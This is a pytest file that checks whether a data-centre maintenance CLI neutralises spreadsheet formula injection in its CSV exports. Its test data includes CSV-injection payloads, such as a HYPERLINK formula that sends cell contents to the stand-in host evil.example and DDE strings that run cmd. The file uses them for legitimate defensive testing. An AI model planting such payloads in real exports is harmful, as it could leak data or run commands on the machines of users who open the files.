"""Formula injection: no CSV cell dcmaint writes is a formula in a spreadsheet (docs/security.md).

Every CSV writer is fed text an outsider chooses (a device's vendor and model as
a BMC reports them, a customer's name, a fault description, a catalogue
description) starting with each character a spreadsheet takes as a formula;
each cell comes out with an apostrophe in front, numbers stay numbers, and
dcmaint's own CSV imports back unchanged.
"""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta

import pytest

from dcmaint.domain.formulas import FORMULA_STARTS, GUARD, formula_safe, safe_row, unguarded

PAYLOADS = (
    '=HYPERLINK("http://evil.example/?"&A1,"点击")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠A1",
)
NUMBERS = ("-3", "+1", "-0.5", "1e3", "-1.5E-3", "0", ".5")


def formula(cell: str) -> bool:
    """What a spreadsheet would run: a cell that starts with a formula character and is not a plain number."""
    return bool(cell) and cell[0] in FORMULA_STARTS and cell not in NUMBERS and not cell.lstrip("+-").isdigit()


def rows(out: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(out)))


def no_formula(out: str) -> list[list[str]]:
    table = rows(out)
    assert not [cell for row in table for cell in row if formula(cell)], out
    return table


# -- the rule ----------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("payload", PAYLOADS)
def test_each_formula_start_is_guarded_and_reads_back(payload):
    guarded = formula_safe(payload)
    assert guarded == GUARD + payload and not formula(guarded)
    assert formula_safe(guarded) == GUARD + guarded  # a cell that already looks guarded keeps its apostrophe
    assert unguarded(guarded) == payload and unguarded(formula_safe(guarded)) == guarded


@pytest.mark.parametrize("text", [*NUMBERS, "PSU 2", "电源故障", "a=b", "", "'", "'quoted'", "'-3", "1-2"])
def test_numbers_and_plain_text_are_left_alone(text):
    assert formula_safe(text) == text and unguarded(text) == text


def test_a_row_keeps_its_numbers_as_numbers():
    assert safe_row(["=1", -3, 2.5, None, "-3", "hq"]) == ["'=1", -3, 2.5, None, "-3", "hq"]


# -- every writer ------------------------------------------------------------------------------------------------


@pytest.fixture
def hostile(cli):
    cli.ok("site", "add", "hq", "--customer", PAYLOADS[0], "--address", "@北京")
    cli.ok("device", "add", "srv01", "--site", "hq", "--kind", "server", "--vendor", PAYLOADS[0])
    cli.ok("device", "edit", "srv01", "--site", "hq", "--model", PAYLOADS[2], "--serial", "＝SN", "--notes", "-3")
    cli.ok("device", "add", "srv02", "--site", "hq", "--kind", "server", "--model", PAYLOADS[1])
    return cli


def test_list_and_show_csv_guard_every_outside_text(hostile, db_url):
    hostile.ok("ticket", "new", "--site", "hq", "--description", PAYLOADS[3], "--device", "srv01")
    sites = no_formula(hostile.ok("site", "list", "--format", "csv").out)
    assert sites[1][1] == GUARD + PAYLOADS[0] and sites[1][2] == "'@北京"
    devices = {row[1]: row for row in no_formula(hostile.ok("device", "list", "--format", "csv").out)[1:]}
    header = rows(hostile.ok("device", "list", "--format", "csv").out)[0]
    first = dict(zip(header, devices["srv01"], strict=True))
    assert first["vendor"] == GUARD + PAYLOADS[0] and first["model"] == GUARD + PAYLOADS[2]
    assert first["serial"] == "'＝SN" and first["notes"] == "-3"  # a number stays a number
    tickets = no_formula(hostile.ok("ticket", "list", "--format", "csv").out)
    assert GUARD + PAYLOADS[3] in tickets[1]
    shown = no_formula(hostile.ok("site", "show", "hq", "--format", "csv").out)
    assert GUARD + PAYLOADS[0] in shown[1]


def test_device_list_csv_with_formulas_imports_back_unchanged(hostile, tmp_path):
    before = {d["name"]: d for d in hostile.ok("device", "list", "--format", "json").json()}
    exported = tmp_path / "export.csv"
    exported.write_text(hostile.ok("device", "list", "--format", "csv").out, encoding="utf-8")
    for name in before:
        hostile.ok("device", "remove", name, "--site", "hq")
    hostile.ok("device", "import", str(exported))
    after = {d["name"]: d for d in hostile.ok("device", "list", "--format", "json").json()}
    assert after == before and after["srv01"]["vendor"] == PAYLOADS[0]


def test_catalogue_csv_guards_descriptions(cli, db_url, tmp_path):
    catalogue = tmp_path / "parts.toml"
    catalogue.write_text(
        '[[part]]\npart_number = "865414-B21"\nvendor = "@HPE"\nclass = "psu"\n'
        'description = "=HYPERLINK(\\"http://evil.example\\")"\nlead_time_days = 10\n',
        encoding="utf-8",
    )
    cli.ok("spare", "catalogue", "import", str(catalogue))
    table = no_formula(cli.ok("spare", "catalogue", "list", "--format", "csv").out)
    part = dict(zip(table[0], table[1], strict=True))
    assert part["vendor"] == "'@HPE" and part["description"] == '\'=HYPERLINK("http://evil.example")'
    assert part["lead_time_days"] == "10"


def test_kpi_csv_guards_a_name_stored_before_the_name_rule(capsys):
    """Engineer names are refused with a formula character today; a row stored earlier is still guarded."""
    from dcmaint.cli.report import _csv
    from dcmaint.domain.kpi import EngineerKpi, KpiReport

    start = datetime(2026, 9, 30, 16, tzinfo=UTC)
    line = EngineerKpi(PAYLOADS[1], 2, 4.5, 1, 50.0, timedelta(hours=3))
    total = EngineerKpi("", 2, 4.5, 1, 50.0, timedelta(hours=3))
    _csv(KpiReport("2026-10", "Asia/Shanghai", start, start + timedelta(days=31), (line,), total))
    table = no_formula(capsys.readouterr().out)
    assert table[1][:4] == ["2026-10", GUARD + PAYLOADS[1], "2", "4.5"]
